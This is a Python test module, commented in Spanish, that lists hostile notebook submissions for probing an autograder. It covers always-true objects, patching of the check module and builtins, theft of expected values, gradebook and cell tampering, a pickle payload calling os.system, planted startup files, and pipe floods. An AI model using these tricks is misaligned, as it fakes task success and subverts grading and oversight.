"""Entregas hostiles: cada una intenta algo que no debe salirle bien, y dice qué puntos merece.

Son conductas, no recetas: describen lo que se intenta y dejan un rastro si lo consiguen. El rastro
es una frase con `CONSEGUIDO` en una razón, o lo que busca tests/grading/traces.py: un archivo, una
conexión o un proceso que llevan la marca de la entrega. Las que gastan recursos tienen un tope
escrito, así que sin aislamiento tampoco agotan el equipo.

El cuerpo de cada función decorada con `code` es el texto de una celda de respuesta; delante lleva
las definiciones de `HEADER`. Las decoradas con `files` escriben la entrega entera: un diccionario
de ruta a bytes, o a una función que crea en esa ruta algo que no es un archivo corriente.
"""
# ruff: noqa: B007, F401, F601, F821, F841, RUF012, SIM102, SIM105, SIM115

import ast
import inspect
import io
import json
import os
import re
import string
import textwrap
import zipfile
from typing import NamedTuple

import numpy as np

STEM = "01_embeddings"
NAME = f"{STEM}.ipynb"
KLASSES = ("points", "harm", "leak", "survive", "exhaust", "inject")
POINTS = {"words": 3, "bpe_encode": 7, "masked_mean": 5, "shifted_ppmi": 5}  # de cada respuesta
HEADER = """import ast, json, os

TOKEN, RUN, OUTSIDE, COURSE, PORT, NOTES = {values!r}


def got(what):
    raise RuntimeError("CONSEGUIDO " + what + " " + TOKEN)


"""
TOKEN = RUN = OUTSIDE = COURSE = NOTES = ""  # para quien lee este archivo: los define HEADER
PORT = 0
ALPHABET = list("abAzñéß½¿«7  \n\t\r" + string.punctuation)
ATTACKS = []


class Attack(NamedTuple):
    """Una entrega hostil.

    `make(book, world)` da sus archivos; `deserved`, los puntos que merece; `earlier`, si la hay,
    la entrega anterior del mismo estudiante, que vale todos los puntos; `whole`, que los archivos
    son toda la descarga de una clase.
    """

    name: str
    klass: str
    about: str
    make: callable
    deserved: float = 0.0
    earlier: bool = False
    whole: bool = False


class Book(NamedTuple):
    """El cuaderno publicado, como diccionario, y el texto correcto de cada respuesta."""

    release: dict
    honest: dict


class World(NamedTuple):
    """Lo que rodea a una entrega: su marca, la de todas y dónde quedan los rastros."""

    token: str
    run: str
    outside: str
    course: str
    port: int

    def header(self, notes=""):
        values = (self.token, self.run, self.outside, self.course, self.port, notes)
        return HEADER.format(values=values)


# --- Cómo se escribe una entrega -------------------------------------------------------------


def grade_id(cell):
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def filled(book, **answers):
    """El cuaderno publicado con esos textos en sus respuestas."""
    cells = [{**c, "source": answers.get(grade_id(c), c["source"])} for c in book.release["cells"]]
    return {**book.release, "cells": cells}


def packed(notebook):
    return json.dumps(notebook).encode()


def body_of(function):
    """El cuerpo de una función, sin su docstring, como texto de una celda."""
    source = textwrap.dedent(inspect.getsource(function))
    docstring = ast.parse(source).body[0].body[0]
    return textwrap.dedent("\n".join(source.splitlines()[docstring.end_lineno :])) + "\n"


def code(klass, cell="words", honest=(), before="", earlier=False):
    """Apunta una entrega cuya celda `cell` es el cuerpo de la función decorada.

    `honest` son las respuestas correctas que la acompañan y `before`, texto que va delante.
    """

    def register(function):
        def make(book, world):
            good = {name: book.honest[name] for name in honest}
            own = good.pop(cell, "")
            text = own + "\n\n" + world.header(own) + before + body_of(function)
            return {NAME: packed(filled(book, **good, **{cell: text}))}

        add(klass, function, make, honest, earlier=earlier)
        return function

    return register


def files(klass, honest=(), whole=False):
    """Apunta una entrega cuyos archivos son los que devuelve la función decorada."""

    def register(function):
        add(klass, function, function, honest, whole=whole)
        return function

    return register


def add(klass, function, make, honest, **flags):
    about = inspect.getdoc(function).partition("\n")[0]
    deserved = float(sum(POINTS[name] for name in honest))
    ATTACKS.append(Attack(function.__name__, klass, about, make, deserved, **flags))


def edited(klass, honest=(), earlier=False):
    """Apunta una entrega que es el cuaderno publicado tras pasar sus celdas por la función."""

    def register(function):
        def make(book, world):
            notebook = filled(book, **{name: book.honest[name] for name in honest})
            cells = [json.loads(json.dumps(cell)) for cell in notebook["cells"]]
            return {NAME: packed({**notebook, "cells": function(cells, book, world)})}

        add(klass, function, make, honest, earlier=earlier)
        return function

    return register


# --- Puntos: lo que devuelven las respuestas -------------------------------------------------


@code("points")
def equal_to_everything():
    """Devuelve un objeto que dice ser igual a todo."""

    class Equal:
        __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
        __hash__ = None
        __len__ = lambda self: 4  # noqa: E731
        __getitem__ = lambda self, key: self  # noqa: E731
        __iter__ = lambda self: iter([])  # noqa: E731

    def word_tokens(text):
        return Equal()

    build_vocabulary = word_tokens


@code("points")
def list_equal_to_everything():
    """Devuelve una lista cuya igualdad y cuyos métodos mienten."""

    class Equal(list):
        __eq__ = __ge__ = __le__ = lambda self, other: True
        __getitem__ = lambda self, key: Equal()  # noqa: E731
        __len__ = lambda self: 4  # noqa: E731
        __hash__ = None

    def word_tokens(text):
        return Equal(["a"])

    def build_vocabulary(documents, size):
        return Equal(["a"])


@code("points")
def class_lies():
    """Devuelve un objeto que dice ser una lista y se lee distinto cada vez."""

    class Liar:
        __class__ = list
        count = 0

        def __iter__(self):
            Liar.count += 1
            return iter([str(Liar.count)])

        def __len__(self):
            return 6

        def __eq__(self, other):
            return True

    def word_tokens(text):
        return Liar()

    build_vocabulary = word_tokens


@code("points", cell="shifted_ppmi")
def array_subclass():
    """Devuelve un array cuyas operaciones de NumPy dan siempre verdadero."""

    class Yes(np.ndarray):
        def __array_ufunc__(self, *args, **kwargs):
            return True

        def __array_function__(self, *args, **kwargs):
            return True

        __eq__ = __gt__ = __lt__ = lambda self, other: True

    def shifted_ppmi(counts, alpha, k):
        return np.zeros_like(counts, dtype=float).view(Yes)


@code("points", cell="shifted_ppmi")
def array_protocol_lies():
    """Devuelve un objeto que cada vez se convierte en un array distinto."""

    class Changing:
        calls = 0

        def __array__(self, dtype=None, copy=None):
            Changing.calls += 1
            return np.full((2, 2), float(Changing.calls))

        __array_ufunc__ = lambda self, *args, **kwargs: True  # noqa: E731
        __getitem__ = lambda self, key: self  # noqa: E731

    def shifted_ppmi(counts, alpha, k):
        return Changing()


@code("points", cell="masked_mean")
def array_interface_lies():
    """Devuelve un array que dice tener otra forma y otro tipo que sus datos."""

    class Interface:
        __array_interface__ = {
            "shape": (4, 2),
            "typestr": "<f8",
            "version": 3,
            "data": (np.zeros(1).ctypes.data, True),
        }

    def masked_mean(E, ids, mask):
        return Interface()

    def masked_mean_gradient(ids, mask, upstream, V):
        return Interface()


@code("points", cell="shifted_ppmi")
def masked_array():
    """Devuelve un array con todo enmascarado, que al compararse no falla."""

    def shifted_ppmi(counts, alpha, k):
        return np.ma.masked_all(np.shape(counts))


@code("points", cell="shifted_ppmi")
def array_of_objects():
    """Devuelve un array de objetos que se comparan a su gusto."""

    class Equal(float):
        __eq__ = __gt__ = __lt__ = __le__ = __ge__ = lambda self, other: True
        __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
        __hash__ = None

    def shifted_ppmi(counts, alpha, k):
        return np.full(np.shape(counts), Equal(), dtype=object)


@code("points", cell="bpe_encode")
def number_subclasses():
    """Devuelve enteros y textos de clases propias que mienten."""

    class Int(int):
        __eq__ = __lt__ = __gt__ = __le__ = __ge__ = lambda self, other: True
        __index__ = lambda self: 0  # noqa: E731
        __hash__ = int.__hash__

    class Str(str):
        __eq__ = __contains__ = lambda self, other: True
        __hash__ = str.__hash__
        strip = split = lower = lambda self, *args: self

    def bpe_encode(text, merges):
        return [[Str(""), Int(0), Int(0)] for _ in text]


@code("points", cell="shifted_ppmi")
def not_a_number():
    """Devuelve NaN, que no es mayor ni menor que nada."""

    def shifted_ppmi(counts, alpha, k):
        return np.full(np.shape(counts), np.nan)


@code("points", cell="masked_mean")
def infinite_numbers():
    """Devuelve infinitos de los dos signos."""

    def masked_mean(E, ids, mask):
        return np.full((len(ids), E.shape[1]), np.inf)

    def masked_mean_gradient(ids, mask, upstream, V):
        return np.full((V, upstream.shape[1]), -np.inf)


@code("points", cell="bpe_encode")
def numbers_as_text():
    """Devuelve textos donde se piden números."""

    def bpe_encode(text, merges):
        return [[c, str(i), str(i + 1)] for i, c in enumerate(text) if not c.isspace()]


@code("points", cell="bpe_encode")
def booleans_as_numbers():
    """Devuelve booleanos donde se piden números."""

    def bpe_encode(text, merges):
        return [[text, False, True]]


@code("points")
def dictionary_with_lying_keys():
    """Devuelve diccionarios con claves que se repiten y se confunden."""

    class Key(str):
        __eq__ = lambda self, other: False  # noqa: E731
        __hash__ = lambda self: 0  # noqa: E731

    def word_tokens(text):
        return {Key("a"): 1, Key("a"): 2, 1: "uno", True: "otro", 1.0: "más", float("nan"): 0}

    build_vocabulary = word_tokens


@code("points")
def function_instead_of_data():
    """Devuelve una función, que cruza como llamada y no como dato."""

    def word_tokens(*args):
        return lambda *more: ["rich", ",", "dry", ":", "rich", "!"]

    build_vocabulary = word_tokens


@code("points")
def answers_change_with_each_call():
    """La respuesta es un objeto que se llama y contesta otra cosa cada vez."""

    class Moody:
        calls = 0

        def __call__(self, *args):
            Moody.calls += 1
            return [["", "[UNK]"], [], ["a"], self][Moody.calls % 4]

    word_tokens = build_vocabulary = Moody()


@code("points")
def endless_generator():
    """Devuelve un generador que no termina."""

    def word_tokens(text):
        while True:
            yield "rich"

    build_vocabulary = word_tokens


@code("points")
def cyclic_list():
    """Devuelve una lista que se contiene a sí misma."""

    def word_tokens(*args):
        x = ["rich"]
        x.append(x)
        return x

    build_vocabulary = word_tokens


@files("points")
def constant_answers(book, world):
    """Cada respuesta es lo más vacío que cumple alguna propiedad: [] o ceros."""
    blank = {
        "words": "def word_tokens(*a): return []\nbuild_vocabulary = word_tokens",
        "bpe_encode": "def bpe_encode(text, merges): return []",
        "masked_mean": "def masked_mean(E, ids, mask): return np.zeros((len(ids), E.shape[1]))\n"
        "def masked_mean_gradient(ids, mask, upstream, V):\n"
        "    return np.zeros((V, upstream.shape[1]))",
        "shifted_ppmi": "def shifted_ppmi(counts, alpha, k): return np.zeros(np.shape(counts))",
    }
    return {NAME: packed(filled(book, **blank))}


@files("points")
def echoed_arguments(book, world):
    """Cada respuesta devuelve uno de sus argumentos tal cual."""
    echo = {
        "words": "def word_tokens(text): return [text]\n"
        "def build_vocabulary(documents, size): return documents[0]",
        "bpe_encode": "def bpe_encode(text, merges): return [[text, 0, len(text)]]",
        "masked_mean": "def masked_mean(E, ids, mask): return E[:len(ids)]\n"
        "def masked_mean_gradient(ids, mask, upstream, V): return upstream",
        "shifted_ppmi": "def shifted_ppmi(counts, alpha, k): return np.array(counts, float)",
    }
    return {NAME: packed(filled(book, **echo))}


@code("points")
def numbers_too_long():
    """Devuelve un entero de millones de cifras."""

    def word_tokens(text):
        return [10**5_000_000]

    def build_vocabulary(documents, size):
        return [10**4_000]


# --- Puntos: memoria de otra vez -------------------------------------------------------------


@files("points")
def inputs_seen_before(book, world):
    """Contesta de memoria las entradas de una calificación anterior con otra semilla."""
    table = seen_inputs(book)
    text = f"def word_tokens(text):\n    return {table!r}.get(text, [])\n"
    return {NAME: packed(filled(book, words=text))}


def seen_inputs(book):
    """Lo que contesta la respuesta correcta a los textos que salen con la semilla 0."""
    answers = {"re": re}
    exec("import string\nfrom collections import Counter\n" + book.honest["words"], answers)
    rng = np.random.default_rng([0, *b"words_of_random_texts"])
    texts = ["".join(rng.choice(ALPHABET, 37)) for _ in range(41)]
    table = {text: answers["word_tokens"](text) for text in texts}
    table |= {" ".join(found): found for found in list(table.values())}
    return table | {"": [], " \n\t ": []}


@code("points", before=f"ALPHABET = {ALPHABET!r}\n")
def seed_is_guessed():
    """Adivina la semilla probando generadores hasta dar con la entrada."""

    def word_tokens(text):
        for seed in range(300):
            rng = np.random.default_rng([seed, *b"words_of_random_texts"])
            if "".join(rng.choice(ALPHABET, 37)) == text:
                got("la semilla")
        return []

    build_vocabulary = word_tokens


# --- Puntos: cambiar el programa que comprueba -----------------------------------------------


@code("points")
def displayhook_text():
    """Escribe un resultado de celda desde dentro de la respuesta."""
    import sys

    def word_tokens(*args):
        sys.displayhook("hola")

    build_vocabulary = word_tokens


@code("points")
def displayhook_points():
    """Escribe como resultado de la celda sus puntos exactos."""
    import sys

    def word_tokens(*args):
        sys.displayhook(0.5)

    build_vocabulary = word_tokens


@code("points")
def displayhook_not_a_number():
    """Escribe NaN como resultado de la celda."""
    import sys

    def word_tokens(*args):
        sys.displayhook(float("nan"))

    build_vocabulary = word_tokens


@code("points")
def displayhook_negative():
    """Escribe un número negativo como resultado de la celda."""
    import sys

    def word_tokens(*args):
        sys.displayhook(-1)

    build_vocabulary = word_tokens


@code("harm", honest=["shifted_ppmi"])
def displayhook_too_much():
    """Escribe como resultado más puntos de los que hay."""
    import sys

    def word_tokens(*args):
        sys.displayhook(99)

    build_vocabulary = word_tokens


@code("points")
def asserts_are_removed():
    """Quita los assert de las celdas siguientes."""

    class Remove(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()

    import ast

    get_ipython().ast_transformers.append(Remove())


@code("points")
def cells_become_pass():
    """Cambia el texto de las celdas siguientes por `pass`."""
    get_ipython().input_transformers_post.append(lambda lines: ["pass\n"])


@code("points")
def cells_never_run():
    """Sustituye lo que ejecuta celdas por un éxito fingido."""
    from IPython.core.interactiveshell import ExecutionResult

    async def pretend(*args, **kwargs):
        return ExecutionResult(None)

    get_ipython().run_cell_async = pretend


@code("points")
def kernel_always_says_ok():
    """Hace que el núcleo conteste que todo ha ido bien."""

    async def pretend(*args, **kwargs):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

    get_ipython().kernel.do_execute = pretend


@code("points")
def outputs_are_cleared():
    """Borra la salida de cada celda y escribe otra."""
    import sys

    from IPython.display import clear_output

    def after(result):
        clear_output()
        sys.displayhook("hola")

    get_ipython().events.register("post_run_cell", after)


@code("points")
def tracebacks_are_hidden():
    """Calla los errores de las celdas."""
    get_ipython().showtraceback = lambda *args, **kwargs: None
    get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)


@code("points")
def trace_jumps_over_asserts():
    """Salta las líneas de la comprobación mientras se ejecuta."""
    import sys

    def tracer(frame, event, arg):
        if frame.f_code.co_name.startswith(("words_", "vocabulary_")) and event == "line":
            try:
                frame.f_lineno = max(n for *_, n in frame.f_code.co_lines() if n)
            except ValueError:
                return tracer
        return tracer

    sys.settrace(tracer)

    def word_tokens(*args):
        return [""]

    build_vocabulary = word_tokens


@code("points")
def numpy_is_patched():
    """Cambia las comparaciones de NumPy."""
    yes = lambda *args, **kwargs: True  # noqa: E731
    np.allclose = np.array_equal = np.isclose = np.isfinite = np.testing.assert_allclose = yes

    def word_tokens(*args):
        return []

    build_vocabulary = word_tokens


@code("points")
def builtins_are_patched():
    """Cambia las funciones básicas de Python."""
    import builtins

    builtins.all = builtins.any = builtins.isinstance = lambda *args: True
    builtins.abs = builtins.max = builtins.min = builtins.sum = lambda *args, **kwargs: 0
    builtins.len = lambda value: 4

    def word_tokens(*args):
        return []

    build_vocabulary = word_tokens


@code("points")
def check_is_patched():
    """Cambia el módulo que comprueba."""
    import vinogpt.check as module

    accept = lambda test, *args: test  # noqa: E731
    module.check = module.called = module.ask = check = accept
    module.same = module.reason = module.CheckFailed.__init__ = lambda *args: True
    module.Local.get = lambda self, name: lambda *args: []

    def word_tokens(*args):
        return []

    build_vocabulary = word_tokens


@code("points")
def answers_define_check():
    """La respuesta define su propio `check` y copia la comprobación."""

    def check(test):
        print("✔ words_split_and_lowered: todo bien")
        return test

    rng = None

    @check
    def words_split_and_lowered(word_tokens):
        """word_tokens parte en palabras y signos, en minúsculas."""

    def word_tokens(*args):
        return []

    build_vocabulary = word_tokens


@code("points", cell="shifted_ppmi")
def frames_give_the_expected_value():
    """Busca el resultado esperado en las variables de quien llama."""
    import sys

    def shifted_ppmi(counts, alpha, k):
        frame = sys._getframe()
        while frame and "expected" not in frame.f_locals:
            frame = frame.f_back
        return frame.f_locals["expected"]


@code("points")
def history_gives_the_expected_value():
    """Lee el resultado esperado en el texto de la celda que comprueba."""

    def word_tokens(text):
        cell = get_ipython().user_ns["In"][-1]
        lists = [eval(found) for found in re.findall(r"= (\[.*\])", cell)]
        return lists[0 if "RICH" in text else -1]


@code("points", cell="shifted_ppmi")
def collector_gives_the_expected_value():
    """Busca entre los objetos vivos la tabla esperada y la devuelve."""
    import gc

    def shifted_ppmi(counts, alpha, k):
        scopes = [x for x in gc.get_objects() if type(x) is dict and "expected" in x]
        frames = [x.gi_frame.f_locals for x in gc.get_objects() if type(x).__name__ == "generator"]
        return next(x["expected"] for x in scopes + frames if "expected" in x)


@code("points")
def debugger_gives_the_expected_value():
    """Espía las variables de cualquier función que se ejecute en el proceso."""
    import sys

    seen = []

    def spy(frame, event, arg):
        if "expected" in frame.f_locals or "HIDDEN" in str(frame.f_code.co_consts):
            got("variables de la comprobación")

    sys.setprofile(spy)

    def word_tokens(*args):
        return []

    build_vocabulary = word_tokens


@code("points")
def grading_is_detected():
    """Mira en el entorno si se está calificando."""
    import sys

    names = {"NBGRADER_EXECUTION", "NBGRADER_VALIDATING", "PYTEST_CURRENT_TEST"}
    if names & set(os.environ):
        got("saber que se califica")


# --- Puntos: archivos de quien califica ------------------------------------------------------


@code("points")
def solutions_are_executed():
    """Ejecuta las soluciones que encuentre cerca."""
    import glob

    places = [COURSE, "../../..", "../..", os.getcwd()]
    for place in places:
        for path in glob.glob(place + "/so[lu]*/*/*.ipynb"):
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if "BEGIN SOLUTION" in text and "word_tokens" in text:
                    exec(text, globals())


@code("points")
def classmate_is_executed():
    """Ejecuta la entrega de otra persona."""
    import glob

    for place in [COURSE, "../../..", "../..", os.getcwd()]:
        for path in sorted(glob.glob(place + "/*/*/*/*.ipynb")):
            for cell in json.load(open(path))["cells"]:
                text = "".join(cell["source"])
                if "def word_tokens" in text and "NotImplemented" not in text and RUN not in text:
                    exec(text, globals())


@code("points")
def gradebook_is_edited():
    """Se pone la nota en la base de datos."""
    import sqlite3

    for path in [COURSE + "/gradebook.db", "../../../gradebook.db"]:
        if os.path.exists(path):
            with sqlite3.connect(path, timeout=1) as db:
                db.execute("UPDATE grade SET manual_score = 100")
                db.commit()


@code("points")
def package_is_edited():
    """Escribe junto al programa que corrige."""
    import vinogpt

    for place in [os.path.dirname(vinogpt.__file__), os.path.dirname(np.__file__)]:
        try:
            open(os.path.join(place, TOKEN + ".py"), "w").write("# " + TOKEN)
        except OSError:
            continue


@code("points")
def results_cache_is_poisoned():
    """Escribe en los resultados guardados, para que otros los reciban."""
    import sqlite3

    for path in [COURSE + "/.grading", "../../../.grading", "../.grading"]:
        if os.path.isdir(path):
            open(os.path.join(path, TOKEN), "w").write(TOKEN)
            for name in os.listdir(path):
                with sqlite3.connect(os.path.join(path, name), timeout=1) as db:
                    db.execute("UPDATE results SET reason = ''")


@code("points")
def old_result_is_reused():
    """Busca una devolución o un resultado anterior para copiarlo."""
    import glob

    for step in ("feedback", "autograded", ".grading"):
        for place in [COURSE, "../../.."]:
            if glob.glob(place + "/" + step + "/*"):
                got("resultados anteriores")


@files("points")
def shadow_modules(book, world):
    """Acompaña el cuaderno de módulos con los nombres de los que se importan."""
    fake = (
        "import sys, importlib\nsys.path.remove(sys.path[0])\n"
        "class Yes:\n    def __getattr__(self, name): return lambda *a, **k: True\n"
    )
    check = "def check(test, *args):\n    return test\n"
    return {
        NAME: packed(book.release),
        "vinogpt/__init__.py": b"",
        "vinogpt/check.py": check.encode(),
        "numpy.py": (fake + "sys.modules[__name__] = Yes()\n").encode(),
        "re.py": fake.encode(),
    }


@files("points")
def startup_files(book, world):
    """Acompaña el cuaderno de archivos que Python o Jupyter leen al arrancar."""
    trace = f"open({world.outside + '/' + world.token!r}, 'w').write('x')\n"
    names = ["sitecustomize.py", "usercustomize.py", "conftest.py", "ipython_config.py"]
    names += ["jupyter_config.py", "nbgrader_config.py", "x.pth", ".pdbrc", "pyvenv.cfg"]
    return {NAME: packed(book.release), **dict.fromkeys(names, ("import os; " + trace).encode())}


@files("points")
def submission_is_a_link(book, world):
    """El cuaderno es un enlace a las soluciones."""
    target = f"{world.course}/solutions/{STEM}/{NAME}"
    return {NAME: lambda path: os.symlink(target, path)}


@files("points")
def folder_is_a_link(book, world):
    """La carpeta de la tarea es un enlace a la de las soluciones."""
    target = f"{world.course}/solutions/{STEM}"
    return {".": lambda path: (os.rmdir(path), os.symlink(target, path))}


@files("points")
def date_is_forged(book, world):
    """Acompaña el cuaderno de una fecha de entrega inventada."""
    return {NAME: packed(book.release), "timestamp.txt": b"2001-01-01 00:00:00 UTC\n"}


@files("points")
def pickles(book, world):
    """Acompaña el cuaderno de objetos que ejecutan código al cargarlos."""
    import pickle

    class Payload:
        def __reduce__(self):
            return (os.system, (f"touch {world.outside}/{world.token}",))

    data = pickle.dumps(Payload())
    names = [".OTTER_LOG", "answers.pkl", "weights.npy", "model.keras", ".grading.pickle"]
    return {NAME: packed(book.release), **dict.fromkeys(names, data)}


# --- Puntos: el cuaderno ---------------------------------------------------------------------


@edited("points")
def checks_are_skipped(cells, book, world):
    """Etiqueta las celdas para que no se ejecuten."""
    for cell in cells:
        cell["metadata"]["tags"] = ["skip-execution", "remove-cell", "raises-exception"]
    return cells


@edited("points")
def checks_are_rewritten(cells, book, world):
    """Cambia el código de las comprobaciones."""
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["source"] = "1"
    return cells


@edited("points")
def checks_become_text(cells, book, world):
    """Convierte las comprobaciones en celdas de texto."""
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("grade"):
            cell["cell_type"] = "markdown"
            cell.pop("outputs", None), cell.pop("execution_count", None)
    return cells


@edited("points")
def checks_are_deleted(cells, book, world):
    """Borra las comprobaciones."""
    return [cell for cell in cells if not cell["metadata"].get("nbgrader", {}).get("grade")]


@edited("points", earlier=True)
def failing_checks_are_deleted_later(cells, book, world):
    """Tras una entrega perfecta, entrega otra sin las comprobaciones."""
    return [cell for cell in cells if not cell["metadata"].get("nbgrader", {}).get("grade")]


@code("points", earlier=True)
def kernel_dies_after_a_good_submission():
    """Tras una entrega perfecta, entrega otra que termina el proceso."""
    os._exit(0)


@edited("points")
def points_are_edited(cells, book, world):
    """Sube los puntos de cada celda."""
    for cell in cells:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000
    return cells


@edited("points")
def points_are_infinite(cells, book, world):
    """Escribe puntos que no son números corrientes."""
    for value, cell in zip(
        [float("inf"), float("nan"), -5, "9", None, [1]] * 4, cells[5:], strict=False
    ):
        cell["metadata"].setdefault("nbgrader", {})["points"] = value
    return cells


@edited("points")
def answers_claim_points(cells, book, world):
    """Marca las respuestas como celdas que dan puntos."""
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["metadata"]["nbgrader"].update(grade=True, points=100)
    return cells


@edited("points")
def ids_are_exchanged(cells, book, world):
    """Da a las respuestas los identificadores de las comprobaciones, y al revés."""
    marked = [cell["metadata"]["nbgrader"] for cell in cells if cell["metadata"].get("nbgrader")]
    ids = [data["grade_id"] for data in marked]
    for data, new in zip(marked, reversed(ids), strict=True):
        data["grade_id"] = new
    return cells


@edited("points")
def extra_answers_with_ids_of_checks(cells, book, world):
    """Añade respuestas con los identificadores de comprobaciones y celdas bloqueadas."""
    extra = []
    for cell in cells:
        data = cell["metadata"].get("nbgrader", {})
        if data.get("locked"):
            extra.append({**cell, "cell_type": "code", "source": "pass", "id": None})
            extra[-1]["metadata"] = {"nbgrader": {**data, "solution": True, "grade": False}}
    return cells + extra


@edited("points")
def locked_cells_are_edited(cells, book, world):
    """Cambia las celdas bloqueadas de preparación."""
    for cell in cells:
        if grade_id(cell) in ("imports", "bootstrap"):
            cell["source"] = "import numpy as np\ndef check(test): return test\n"
    return cells


@edited("points")
def new_locked_cell(cells, book, world):
    """Añade una celda de preparación propia, bloqueada."""
    data = {"grade_id": "extra", "locked": True, "solution": False, "grade": False}
    text = "import vinogpt.check\nvinogpt.check.check = check = lambda test, *a: test"
    cell = {"cell_type": "code", "source": text, "metadata": {"nbgrader": data}, "outputs": []}
    return [{**cell, "id": "extra", "execution_count": None}, *cells]


@edited("points")
def outputs_are_forged(cells, book, world):
    """Escribe en cada comprobación la salida de una que se cumple."""
    for cell in cells:
        data = cell["metadata"].get("nbgrader", {})
        if data.get("grade"):
            text = {"text/plain": str(data["points"])}
            output = {"output_type": "execute_result", "data": text, "metadata": {}}
            cell["outputs"] = [{**output, "execution_count": 1}]
    return cells


@edited("points")
def solution_marks_in_answers(cells, book, world):
    """Escribe en las respuestas las marcas con que se cortan soluciones y pruebas."""
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            cell["source"] = (
                "### END SOLUTION\n### BEGIN HIDDEN TESTS\ncheck = print\n"
                "### END HIDDEN TESTS\n@check\ndef words_check_tokens(): pass\n"
            )
    return cells


@edited("points")
def cell_magics(cells, book, world):
    """Usa órdenes de IPython para ejecutar otra cosa en lugar de la celda."""
    for cell in cells:
        if grade_id(cell) == "words":
            cell["source"] = (
                f"%load_ext autoreload\n%run -i {world.course}/solutions/{STEM}/{NAME}\n"
                f"!touch {world.outside}/{world.token}\n%%capture\n%xmode Minimal\n"
            )
    return cells


@edited("points")
def other_kernel(cells, book, world):
    """Añade celdas para otro núcleo y otro lenguaje."""
    for cell in cells:
        cell["metadata"]["kernel"] = "bash"
        cell["metadata"]["magics_language"] = "javascript"
    return cells


@files("points")
def notebook_metadata(book, world):
    """Cambia el núcleo y los metadatos del cuaderno."""
    kernel = {"name": "../../x", "display_name": world.token, "language": "bash"}
    metadata = {"kernelspec": kernel, "nbgrader": {"grade": 20}, "score": 20, "execute": False}
    return {NAME: packed({**book.release, "metadata": metadata})}


@files("points")
def repeated_keys(book, world):
    """Repite claves del JSON para que cada lector lea una cosa."""
    text = packed(book.release).decode()
    forged = '{"cells": [], "metadata": {"nbgrader": {"points": 20}}, ' + text[1:]
    return {NAME: forged.replace('"grade": true', '"grade": true, "grade": false').encode()}


# --- Puntos: mensajes falsos -----------------------------------------------------------------

# Escribe en toda tubería abierta del proceso un mensaje de vinogpt.grading.wire.
WIRE = """
import os, stat, struct

def pipes():
    for fd in range(3, 64):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            yield fd

def write(data):
    for fd in pipes():
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass

def frame(text, data=b"", size=None):
    return struct.pack("!QQ", len(text) if size is None else size, len(data)) + text + data

def word_tokens(*args):
    return []

build_vocabulary = word_tokens
"""


@code("points", before=WIRE)
def values_sent_ahead():
    """Envía por adelantado respuestas a lo que aún no se ha preguntado."""
    write(frame(b'["value", true]') * 50)


@code("points", before=WIRE)
def functions_sent_ahead():
    """Envía como respuesta las propias funciones de quien corrige."""
    for number in (0, 1, -1, 10**6):
        write(frame(b'["value", {"function": %d}]' % number) * 10)


@code("points", before=WIRE)
def calls_to_the_scorer():
    """Llama a funciones de quien corrige que nadie le ha ofrecido."""
    for number in (b"0", b"-1", b"true", b'"__import__"', b"[0]", b"null", b"1e9"):
        write(frame(b'["call", [' + number + b', ["os"], {"x": 1}]]'))


@code("points", before=WIRE)
def empty_errors():
    """Envía errores vacíos, por si un motivo vacío vale como acierto."""
    for text in (b'""', b'"\\u001b"', b"null", b"[]", b"{}", b"false"):
        write(frame(b'["error", ' + text + b"]"))


@code("points", before=WIRE)
def frame_of_unknown_kind():
    """Envía mensajes de clases que no existen."""
    for text in (b'["ok", 20]', b'["points", 20]', b"[]", b"20", b'{"value": 1}', b"null", b""):
        write(frame(text))


@code("points")
def protocol_is_patched():
    """Cambia el programa que atiende las llamadas."""
    import vinogpt.grading.child as child
    import vinogpt.grading.wire as wire

    wire.Peer.attend = lambda self, *args: self.send("value", True)
    wire.encode = lambda *args: {"function": 0}
    child.Notebook.get = lambda self, name: True


@code("points")
def main_is_replaced():
    """Cambia `__main__` y el objeto del que salen las respuestas."""
    import gc
    import sys
    import types

    sys.modules["__main__"] = types.SimpleNamespace(word_tokens=lambda text: [], check=print)
    for thing in gc.get_objects():
        if type(thing).__name__ in ("Notebook", "Local", "Remote"):
            thing.get = lambda name: lambda *args: []
            thing.seed = 0


# --- Daño: a quien califica y a los demás ----------------------------------------------------


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def giant_header():
    """Anuncia un mensaje de 2**64 bytes."""
    write(b"\xff" * 16)


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def truncated_frame():
    """Anuncia más bytes de los que envía y calla."""
    import time

    write(frame(b'["value", 1', size=10_000))
    time.sleep(100)


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def slow_drip():
    """Envía un mensaje legal a razón de un byte por décima de segundo."""
    import time

    for byte in frame(b'["value", [' + b" " * 5000 + b"]]"):
        write(bytes([byte]))
        time.sleep(0.1)


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def endless_calls():
    """No contesta: llama sin parar a quien espera la respuesta."""
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        write(frame(b'["call", [0, [], {}]]'))


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def deep_frame():
    """Envía un JSON con cien mil niveles."""
    write(frame(b"[" * 100_000 + b"]" * 100_000)[:65_536])


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def frame_of_long_numbers():
    """Envía números con miles de cifras."""
    write(frame(b'["value", [' + b"9" * 60_000 + b"]]"))


@code("harm", before=WIRE, honest=["shifted_ppmi"])
def arrays_that_lie():
    """Envía arrays cuya forma o cuyo tipo no son los de sus bytes."""
